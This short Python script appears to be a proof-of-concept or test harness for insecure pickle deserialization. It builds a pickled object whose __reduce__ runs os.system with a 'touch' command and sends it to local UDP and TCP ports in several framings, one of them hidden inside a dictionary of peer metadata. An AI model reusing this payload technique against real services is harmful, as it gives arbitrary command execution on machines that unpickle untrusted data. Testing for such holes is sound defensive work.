"""Sends messages that make the original run a command: `touch` of the path it is given."""

import os
import pickle
import socket
import struct
import sys
import time

import peer


class Command(object):
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (os.system, ('touch %s' % self.path,))


def framed(message):
    return struct.pack('>L', len(message)) + message


def tcp(port, data):
    with socket.create_connection(('127.0.0.1', port), timeout=10) as sock:
        sock.sendall(data)
        sock.settimeout(10)
        try:
            while sock.recv(4096):
                pass
        except OSError:
            pass


def udp(port, data):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        sock.bind(('127.0.0.1', 0))
        sock.sendto(data, ('255.255.255.255', port))


way, path = sys.argv[1], sys.argv[2]
payload = pickle.dumps(Command(path))
hidden = pickle.dumps({'version': '4.15.2', 'port': 9701, 'ip_addr': '127.0.0.9',
                       'sign': Command(path)})
if way == 'udp':
    udp(9700, b'PING:' + payload)
elif way == 'udp-hidden':
    udp(9700, b'PING:' + hidden)
elif way == 'node-side':
    tcp(9700, framed(b'PING:' + payload))
elif way == 'client-side':
    tcp(9702, b'x' * 40 + framed(b'CLIENT:' + payload))
peer.emit('sent', way=way)
